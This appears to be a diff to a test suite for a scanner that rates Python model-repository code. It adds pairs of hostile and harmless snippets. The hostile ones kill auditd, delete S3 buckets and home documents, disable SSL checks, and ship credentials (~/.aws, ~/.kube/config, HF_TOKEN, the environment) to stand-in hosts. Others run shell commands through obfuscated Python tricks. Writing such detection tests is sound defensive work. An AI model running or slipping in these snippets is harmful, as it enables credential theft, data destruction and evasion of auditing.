@@ -301,6 +301,38 @@ describe('code of a model that takes what it runs from elsewhere blocks, and its
   }); // prettier-ignore
 });
 
+describe('what a model does to the programs, checks and accounts around it blocks, and its honest twin does not', () => {
+  it.each([
+    ['a loader replaced', 'import torch\nold = torch.load\ndef load(f, **k):\n    k["weights_only"] = False\n    return old(f, **k)\ntorch.load = load', 'import torch\nload = torch.load\nmodel = torch.nn.Linear(2, 2)\nmodel.load = load'],
+    ['a loader replaced by setattr', 'import transformers.dynamic_module_utils as d\nsetattr(d, "resolve_trust_remote_code", lambda *a, **k: True)', 'import transformers.utils as u\nsetattr(u, "kite", 1)'],
+    ['certificates that nobody checks', 'import ssl\nssl._create_default_https_context = ssl._create_unverified_context', 'import ssl\ncontext = ssl.create_default_context()'],
+    ['another hub', 'import os\nos.environ["HF_ENDPOINT"] = "https://hub.invalid"', 'import os\nos.environ["TOKENIZERS_PARALLELISM"] = "false"'],
+    ['another index', 'import os\nos.environ.setdefault("PIP_INDEX_URL", "https://pypi.invalid/simple")', 'import os\nos.environ.setdefault("HF_HUB_OFFLINE", "1")'],
+    ['code of a function', 'def f(): pass\nf.__code__ = f.__code__.replace(co_code=b"d")\nf()', 'def f(): pass\ndef g(): pass\nf.__code__ = g.__code__\nf()'],
+    ['a function that Ray runs', 'import ray, os\n@ray.remote\ndef f(c):\n    os.system(c)\nray.get(f.remote("id"))', 'import ray\n@ray.remote\ndef f(c):\n    return c + 1\nray.get(f.remote(1))'],
+    ['a function by the type of its argument', 'import functools, os\n@functools.singledispatch\ndef f(x): pass\n@f.register(str)\ndef _(x):\n    os.system(x)\nf("id")', 'import functools, os\n@functools.singledispatch\ndef f(x): pass\n@f.register(str)\ndef _(x):\n    print(x)\ndef h(x):\n    os.system(x)\nf("id")'],
+    ['a compiler of graphs', 'import subprocess\nfrom torch._dynamo import register_backend\n@register_backend\ndef fast(gm, x):\n    subprocess.run("id", shell=True)', 'from torch._dynamo import register_backend\n@register_backend\ndef fast(gm, x):\n    return gm.forward'],
+    ['a lambda in a slot', 'from os import popen\nclass M(type):\n    __getitem__ = lambda c, k: popen(k)\nclass A(metaclass=M): pass\nA["id"]', 'class M(type):\n    __getitem__ = lambda c, k: k\nclass A(metaclass=M): pass\nA["id"]'],
+    ['a format of its own', 'import subprocess\nclass F:\n    __format__ = lambda s, c: subprocess.getoutput(c)\nf"{F():id}"', 'class F:\n    __format__ = lambda s, c: c\nf"{F():id}"'],
+    ['a long reduce', 'from functools import reduce\nimport torch\nreduce(getattr, ["utils", "data", "_utils", "worker", "os", "system"], torch)("id")', 'from functools import reduce\nimport torch\nreduce(getattr, ["nn", "functional", "relu"], torch)(1)'],
+    ['programs ended', 'import psutil\nfor p in psutil.process_iter(["name"]):\n    if p.info["name"] == "auditd":\n        p.kill()', 'import psutil\nfree = psutil.virtual_memory().available'],
+    ['a store emptied', 'import boto3\nfor b in boto3.resource("s3").buckets.all():\n    b.objects.all().delete()', 'import boto3\nboto3.client("s3").download_file("b", "k", "weights.safetensors")'],
+    ['a login uploaded', 'import boto3, os\ndef f():\n    boto3.client("s3").upload_file(os.path.expanduser("~/.kube/config"), "b", "k")', 'import boto3\ndef f():\n    boto3.client("s3").upload_file("out/model.safetensors", "b", "k")'],
+    ['keys kept as an artifact', 'import wandb, os\ndef f():\n    a = wandb.Artifact("e", type="c")\n    a.add_dir(os.path.expanduser("~/.aws"))', 'import wandb\ndef f():\n    a = wandb.Artifact("e", type="c")\n    a.add_dir("out")'],
+    ['the environment in a queue', 'import redis, os\ndef f():\n    redis.Redis("r").rpush("e", *[f"{k}={v}" for k, v in os.environ.items()])', 'import redis\ndef f():\n    redis.Redis("r").rpush("e", "done")'],
+    ['a key in a message', 'import os\nimport paho.mqtt.publish as p\np.single("q", os.environ.get("HF_TOKEN"), hostname="q")', 'import os\nimport paho.mqtt.publish as p\ndef f():\n    p.single("q", "done", hostname="q")'],
+    ['documents walked', 'import os\nfor d, _, fs in os.walk(os.path.expanduser("~/Documents")):\n    for f in fs:\n        os.remove(os.path.join(d, f))', 'import os\nfor d, _, fs in os.walk("checkpoints"):\n    print(fs)'],
+    ['cached code appended to', 'import os\ndef f():\n    for d, _, fs in os.walk(os.path.expanduser("~/.cache/huggingface/hub")):\n        for n in fs:\n            open(os.path.join(d, n), "a").write("x")', 'import os\ndef f():\n    for d, _, fs in os.walk("hub"):\n        for n in fs:\n            open(os.path.join(d, n), "a").write("x")'],
+    ['a link to keys', 'import os\nos.symlink("/root/.ssh", "weights")', 'import os\nos.symlink("blobs/a", "weights")'],
+    ['a handler that calls what it is sent', 'import importlib\nclass EndpointHandler:\n    def __call__(self, data):\n        m, f = data["op"].rsplit(".", 1)\n        return getattr(importlib.import_module(m), f)()', 'import importlib\nclass EndpointHandler:\n    def __call__(self, data):\n        return getattr(importlib.import_module("math"), "sqrt")(data["x"])'],
+    ['an operator behind a socket', 'import subprocess, websocket\ndef on(ws, message):\n    subprocess.run(message, shell=True)\nwebsocket.WebSocketApp("wss://r.invalid", on_message=on)', 'import websocket\ndef on(ws, message):\n    print(message)\nwebsocket.WebSocketApp("wss://r.invalid", on_message=on)'],
+    ['code in a tensor', 'class M:\n    @classmethod\n    def from_pretrained(cls, m):\n        exec(bytes(m.calib.tolist()).decode("utf-8"))', 'class M:\n    @classmethod\n    def from_pretrained(cls, m):\n        return bytes(m.calib.tolist()).decode("utf-8")'],
+  ])('%s', (_, hostile, honest) => {
+    expect(['critical', 'high']).toContain(worst(hostile, 'modeling_x.py'));
+    expect(['critical', 'high']).not.toContain(worst(honest, 'modeling_x.py'));
+  }); // prettier-ignore
+});
+
 describe('what reaches a call blocks by who calls it and by where its arguments come from', () => {
   it.each([
     ['a thread with its arguments', 'modeling_x.py', 'import threading, urllib.request\nclass X:\n    def forward(self, x):\n        threading.Thread(target=urllib.request.urlopen, args=("https://x.invalid/a",)).start()\n', 'import threading\nclass X:\n    def forward(self, x):\n        threading.Thread(target=self.step, args=(x,)).start()\n'],
@@ -340,4 +372,10 @@ describe('what reaches a call blocks by who calls it and by where its arguments 
     expect(['critical', 'high']).toContain(worst(hostile, path));
     expect(['critical', 'high']).not.toContain(worst(honest, path));
   }); // prettier-ignore
+});
+
+it('a command whose address goes on with a value is judged, and breaks no rule', () => {
+  expect(
+    worst('import subprocess\ndef f(city):\n    subprocess.run(f"curl -s https://w.invalid/{city}", shell=True)'),
+  ).not.toBe('critical');
 });
